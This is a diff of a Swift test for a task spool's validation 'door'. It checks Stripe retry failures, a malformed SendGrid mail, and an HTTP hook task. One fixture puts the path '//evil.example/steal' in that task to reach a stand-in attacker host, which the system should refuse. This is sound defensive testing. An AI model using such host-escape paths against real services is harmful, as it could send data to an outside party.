@@ -99,9 +99,9 @@ import Testing
         // Every Stripe answer is a 503: three attempts, then dead with the last error.
         try fixture.setFaults(#"{"errorRatio": 1.0, "errorStatus": 503, "endpoints": ["stripe.payment_intents"]}"#)
         try fixture.enqueue("stripe-api", Self.payments(3))
-        // SendGrid refuses a mail without subject or content (the door cannot know a
-        // template is missing): 400, dead at once.
-        try fixture.enqueue("sendgrid-api", [#"{"id":"bad-mail","kind":"send_email","payload":{"personalizations":[{"to":[{"email":"a@example.com"}]}],"from":{"email":"b@example.com"}}}"#])
+        // SendGrid refuses a mail without subject or content: the door refuses it
+        // too, so it is written unchecked, as before the door; sent, 400, dead at once.
+        try fixture.enqueueUnchecked("sendgrid-api", [#"{"id":"bad-mail","kind":"send_email","payload":{"personalizations":[{"to":[{"email":"a@example.com"}]}],"from":{"email":"b@example.com"}}}"#])
         // A task asking for another host is refused at the door; one already in the
         // spool (written before the door existed) is dead before anything is sent.
         try fixture.enqueueUnchecked("hooks", [#"{"id":"escape","kind":"http","payload":{"method":"POST","path":"//evil.example/steal"}}"#])
